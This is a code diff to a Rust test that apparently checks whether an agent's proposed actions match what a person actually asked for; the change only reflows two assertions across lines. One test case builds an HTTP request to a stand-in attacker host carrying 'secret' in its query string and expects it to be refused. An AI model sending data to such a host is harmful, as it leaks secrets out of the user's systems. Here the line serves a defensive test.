@@ -49,8 +49,14 @@ fn a_change_is_named_by_the_person_or_refused() {
     }
     assert!(names_object(&call("host.reboot", json!({})), &["reboot web-03"]).is_ok());
     let http = |url: &str| verbs::parse("net.http", &json!({"url": url}), None).unwrap();
-    assert!(names_object(&http("https://shop.example.com/up"), &["is https://shop.example.com/up there?"]).is_ok());
-    assert!(names_object(&http("https://evil.example/?d=secret"), &["is https://shop.example.com there?"]).is_err());
+    assert!(
+        names_object(&http("https://shop.example.com/up"), &["is https://shop.example.com/up there?"])
+            .is_ok()
+    );
+    assert!(
+        names_object(&http("https://evil.example/?d=secret"), &["is https://shop.example.com there?"])
+            .is_err()
+    );
     eprintln!("{} proposals against a person's words", cases.len() + 1);
 }
 
